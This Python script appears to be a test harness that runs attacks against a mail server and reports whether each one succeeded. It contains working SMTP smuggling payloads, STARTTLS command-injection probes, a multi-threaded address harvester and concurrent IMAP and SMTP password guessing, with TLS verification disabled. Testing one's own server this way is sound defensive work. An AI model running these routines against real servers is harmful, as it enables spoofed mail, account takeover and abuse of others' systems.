#!/usr/bin/env python3
"""What attackers do that no ready-made program does: one word a kind of attack. Prints what came of it; ends 1 if the attack worked."""
import imaplib
import poplib
import smtplib
import socket
import ssl
import sys
import threading
import time

ANY = ssl.create_default_context()
ANY.check_hostname = False
ANY.verify_mode = ssl.CERT_NONE


def connect(host, port, source=""):
    return socket.create_connection((host, port), 20, (source, 0) if source else None)


def answers(sock):
    """All that is said until nothing more comes for a while, or the other side ends."""
    sock.settimeout(3)
    said = b""
    try:
        while piece := sock.recv(4096):
            said += piece
    except (TimeoutError, ConnectionError, ssl.SSLError):
        pass
    return said


def smuggle(host, port, anna):
    """Ends of a letter that are none: nothing behind them may be taken for a second letter."""
    failed = 0
    for almost in (b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\r\r\n.\r\n", b"\r\n\0.\r\n", b"\r\n.\0\r\n"):
        with connect(host, int(port)) as sock:
            inner = f"MAIL FROM:<evil@remote.example>\r\nRCPT TO:<{anna}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\nQUIT\r\n".encode()
            talk = f"EHLO x.example\r\nMAIL FROM:<a@remote.example>\r\nRCPT TO:<{anna}>\r\nDATA\r\n".encode()
            sock.sendall(talk)
            time.sleep(.3)
            sock.sendall(b"Subject: outer\r\n\r\nfirst" + almost + inner)
            said = answers(sock)
        # by the beginnings of lines: the name of a stored letter may hold any digits
        lines = said.split(b"\r\n")
        taken, started = (sum(line.startswith(code) for line in lines) for code in (b"250 2.0.0 Stored", b"354 "))
        if taken > 1 or started > 1:
            failed += 1
            print(said)
        print(repr(almost), "letters taken:", taken, "started:", started)
    return failed


def injected(host, port, kind):
    """Commands put behind STARTTLS in the same packet must be heard neither before nor after the handshake."""
    start = {"smtp": b"EHLO x\r\nSTARTTLS\r\nNOOP\r\nNOOP\r\n", "imap": b"a STARTTLS\r\nb NOOP\r\nc NOOP\r\n", "pop3": b"STLS\r\nCAPA\r\nCAPA\r\n"}[kind]
    with connect(host, int(port)) as sock:
        time.sleep(.3)
        sock.recv(4096)
        sock.sendall(start)
        time.sleep(.5)
        said = sock.recv(65536)
        if kind == "smtp":
            assert said.rstrip().endswith(b"220 2.0.0 Go ahead"), said
        try:
            secure = ANY.wrap_socket(sock, server_hostname=host)
        except (OSError, ssl.SSLError) as refused:
            print("the connection ended:", type(refused).__name__)
            return 0
        secure.sendall({"smtp": b"QUIT\r\n", "imap": b"z LOGOUT\r\n", "pop3": b"QUIT\r\n"}[kind])
        said = answers(secure)
        print(kind, said)
        return 1 if b"b OK" in said or b"c OK" in said or said.count(b"250 ") or said.count(b"CAPA") else 0


def aborted(host, port, anna):
    """A letter that was not ended, by a closed connection and by a reset."""
    for reset in (False, True):
        sock = connect(host, int(port))
        sock.sendall(f"EHLO x.example\r\nMAIL FROM:<a@remote.example>\r\nRCPT TO:<{anna}>\r\nDATA\r\n".encode())
        time.sleep(.5)
        sock.sendall(b"Subject: aborted\r\n\r\nhalf a letter\r\n")
        time.sleep(.2)
        if reset:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        sock.close()
    print("left in the middle, twice")
    return 0


def said(host, port, secure, line, wanted):
    """Says a line; the answer must hold the words, and the connection ends or goes on as it likes."""
    sock = connect(host, int(port))
    if secure == "tls":
        sock = ANY.wrap_socket(sock, server_hostname=host)
    sock.recv(4096)
    sock.sendall(line.encode().decode("unicode_escape").encode("latin-1"))
    answer = answers(sock)
    print(answer.decode("latin-1"))
    return 0 if wanted.encode() in answer else 1


def harvest(host, port, source, domain):
    """Tries out addresses until it is sent away; twelve connections at once."""
    gone = []

    def one(number):
        try:
            client = smtplib.SMTP(host, int(port), "x.example", 60, (source, 0))
            client.ehlo()
            client.mail("")
            for i in range(5):
                code, _ = client.rcpt(f"name{number}-{i}@{domain}")
                if code == 421:
                    break
        except smtplib.SMTPException:
            gone.append(number)

    together([threading.Thread(target=one, args=(number,)) for number in range(12)])
    try:
        smtplib.SMTP(host, int(port), "x.example", 20, (source, 0))
    except smtplib.SMTPConnectError as refused:
        print("sent away:", refused.smtp_code, refused.smtp_error.decode())
        return 0
    print("still served")
    return 1


def together(threads):
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def guess(host, source, anna, seconds):
    """Guesses passwords over IMAP, submission and POP3, several connections at once, for so long."""
    end = time.monotonic() + float(seconds)
    count = [0]

    def one(number):
        while time.monotonic() < end:
            count[0] += 1
            word = f"guess {number} {count[0]}"
            try:
                if number % 2:
                    client = imaplib.IMAP4_SSL(host, 993, ssl_context=ANY, timeout=60) if not source else bound(host, source)
                    client.login(anna, word)
                else:
                    client = smtplib.SMTP_SSL(host, 465, "x", timeout=60, context=ANY, source_address=(source, 0))
                    client.login(anna, word)
                print("let in with", word)
                count[0] = -10**6
            except (smtplib.SMTPException, imaplib.IMAP4.error, OSError):
                time.sleep(.5)

    together([threading.Thread(target=one, args=(number,)) for number in range(6)])
    print("guesses made:", count[0])
    return 1 if count[0] < 0 else 0


def bound(host, source):
    class Bound(imaplib.IMAP4_SSL):
        def _create_socket(self, timeout):
            return ANY.wrap_socket(socket.create_connection((host, 993), timeout, (source, 0)), server_hostname=host)

    return Bound(host, 993, ssl_context=ANY, timeout=60)


def login(host, source, anna, password_file):
    """One login with the right password; 0 if it was let in."""
    with open(password_file, encoding="utf-8") as file:
        password = file.read().strip()
    try:
        (bound(host, source) if source else imaplib.IMAP4_SSL(host, 993, ssl_context=ANY, timeout=60)).login(anna, password)
        print("let in")
        return 0
    except (imaplib.IMAP4.error, OSError) as refused:
        print("refused:", refused)
        return 1


def clear(host, anna, port_imap, port_pop3):
    """Logins in clear: imaplib and poplib must not be let in, nor asked for a password."""
    worked = 0
    try:
        imaplib.IMAP4(host, int(port_imap), timeout=20).login(anna, "any")
        worked = 1
    except imaplib.IMAP4.error as refused:
        print("imap:", refused)
    try:
        poplib.POP3(host, int(port_pop3), timeout=20).user(anna)
        worked = 1
    except poplib.error_proto as refused:
        print("pop3:", refused)
    return worked


if __name__ == "__main__":
    sys.exit(1 if globals()[sys.argv[1]](*sys.argv[2:]) else 0)
